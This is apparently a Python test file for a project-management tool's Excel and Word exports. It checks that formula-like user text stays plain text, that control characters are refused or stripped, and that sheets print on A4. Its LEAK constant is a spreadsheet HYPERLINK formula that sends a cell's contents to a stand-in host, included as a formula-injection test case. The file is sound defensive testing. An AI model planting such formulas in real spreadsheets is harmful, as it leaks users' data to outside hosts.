"""What users write is written as they wrote it: text that looks like a spreadsheet
formula stays text in every Excel document, and a control character (pasted from another
program) is refused on input and never breaks a Word export."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select, update

from tests.test_cli import cli
from workbench.model import Measure, Milestone, Receipt
from workbench.services import items, measures
from workbench.services.errors import ValidationError
from workbench.services.exporting import ExportRequest, run_export
from workbench.services.operations import execute

LEAK = '=HYPERLINK("http://example.invalid/?leak="&B2,"Details")'


def _formula_cells(path: Path) -> list[str]:
    return [
        f"{ws.title}!{c.coordinate}: {c.value}"
        for ws in load_workbook(path)
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _texts(path: Path) -> set[str]:
    return {
        c.value
        for ws in load_workbook(path)
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def test_a_title_like_a_formula_stays_text_in_the_measure_list_and_milestone_plan(
    demo_ws, tmp_path: Path
) -> None:
    with demo_ws.session() as s:
        mid = s.scalars(select(Measure.id).where(Measure.code == "P-01")).one()
        milestone = s.scalars(select(Milestone.id).where(Milestone.measure_id == mid)).first()
    execute(demo_ws, "titel", measures.update_measure, mid, {"title": LEAK})
    execute(demo_ws, "meilenstein", items.update_item, Milestone, milestone, {"title": "=1+1"})
    for kind in ("massnahmenliste", "meilensteinplan", "indikatoren"):
        path = run_export(demo_ws, ExportRequest(kind, tmp_path / f"{kind}.xlsx"))
        assert _formula_cells(path) == [], kind
        assert LEAK in _texts(path), kind
    assert "=1+1" in _texts(tmp_path / "meilensteinplan.xlsx")


def test_receipt_texts_like_formulas_stay_text_and_the_sums_stay_formulas(
    example,  # noqa: F811 - the fixture
    tmp_path: Path,
) -> None:
    ws, grant_id = example
    with ws.engine.begin() as conn:  # as a finance system's export might bring them
        first = conn.execute(select(Receipt.__table__.c.id).limit(1)).scalar_one()
        conn.execute(
            update(Receipt.__table__)
            .where(Receipt.__table__.c.id == first)
            .values(number="=2+3", payee=LEAK, purpose="=A1")
        )
    path = run_export(ws, ExportRequest("belegliste", tmp_path / "belege.xlsx", grant_id=grant_id))
    formulas = _formula_cells(path)
    sums = re.compile(r"Belege!([G-J])\d+: =(SUM\(\1\d+:\1\d+\)|\1\d+(\+\1\d+)*)")
    assert formulas and all(sums.fullmatch(f) for f in formulas), formulas
    assert {"=2+3", LEAK, "=A1"} <= _texts(path)


def test_a_control_character_is_refused_on_input(demo_ws) -> None:
    with demo_ws.session() as s:
        mid = s.scalars(select(Measure.id).where(Measure.code == "P-01")).one()
    with pytest.raises(ValidationError, match="Steuerzeichen"):
        execute(demo_ws, "titel", measures.update_measure, mid, {"title": "Kiez\x0bbox"})
    code, _, err = cli("measures", "set", str(demo_ws.path), "P-01", "Titel=Kiez\x0bbox")
    assert code == 1 and "Steuerzeichen" in err


def test_a_control_character_already_stored_never_breaks_a_word_export(
    demo_ws, tmp_path: Path
) -> None:
    with demo_ws.engine.begin() as conn:  # stored before the check existed, or by a bug
        conn.execute(
            update(Measure.__table__)
            .where(Measure.__table__.c.code == "P-01")
            .values(title="Kiez\x0bbox\x00 2.0")
        )
    with demo_ws.session() as s:
        mid = s.scalars(select(Measure.id).where(Measure.code == "P-01")).one()
    for kind in ("steckbrief", "strategiebericht", "statusbericht", "projektauftrag"):
        path = run_export(demo_ws, ExportRequest(kind, tmp_path / f"{kind}.docx", mid))
        text = "\n".join(p.text for p in Document(path).paragraphs)
        tables = "\n".join(c.text for t in Document(path).tables for r in t.rows for c in r.cells)
        assert "Kiezbox 2.0" in text + tables, kind


def test_every_sheet_of_the_measure_documents_prints_on_a4(demo_ws, tmp_path: Path) -> None:
    for kind in ("massnahmenliste", "meilensteinplan", "indikatoren"):
        path = run_export(demo_ws, ExportRequest(kind, tmp_path / f"{kind}.xlsx"))
        for sheet in load_workbook(path).worksheets:  # the cover printed on US Letter before
            assert int(sheet.page_setup.paperSize) == 9, (kind, sheet.title)
